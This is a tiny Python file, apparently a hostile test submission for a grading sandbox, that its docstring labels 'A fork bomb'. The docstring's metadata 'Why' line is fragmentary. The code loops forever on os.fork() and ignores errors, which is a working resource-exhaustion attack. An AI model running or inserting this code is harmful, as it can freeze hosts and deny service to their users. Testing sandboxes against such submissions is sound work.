"""A fork bomb.

Honest: 0
Answers: reference
Place: first
Why: than a submission may
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
